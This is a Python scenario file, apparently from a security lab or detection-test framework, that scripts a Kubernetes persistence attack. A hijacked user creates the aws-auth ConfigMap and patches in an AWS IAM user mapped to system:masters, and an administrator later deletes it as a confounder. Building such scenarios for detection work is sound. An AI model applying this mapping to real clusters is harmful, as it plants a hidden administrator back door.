"""The map from cloud identities to cluster groups gets an entry."""

from lab.client import MERGE
from lab.story import Scenario, Stage


def _play(stage: Stage) -> None:
    thief = stage.hijack("carol")
    path = "/api/v1/namespaces/kube-system/configmaps"
    entry = "- userarn: arn:aws:iam::000000000000:user/svc\n  username: svc\n  groups: [system:masters]\n"
    body = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "aws-auth"}, "data": {"mapUsers": "[]\n"}}
    with stage.step("make the map", thief, "persistence", ("E20",)):
        stage.must(stage.create(thief, body, "kube-system"))
    with stage.step("add an entry", thief, "persistence", ("E20",)):
        stage.must(thief.patch(f"{path}/aws-auth", {"data": {"mapUsers": entry}}, MERGE))
    with stage.step("the administrator removes it", "kubernetes-admin", kind="confounder"):
        stage.admin().delete(f"{path}/aws-auth")


SCENARIO = Scenario(
    "cloud-back-door",
    "A cloud identity is mapped to administrators",
    "attack",
    "come back through the cloud",
    ("T1098",),
    _play,
)
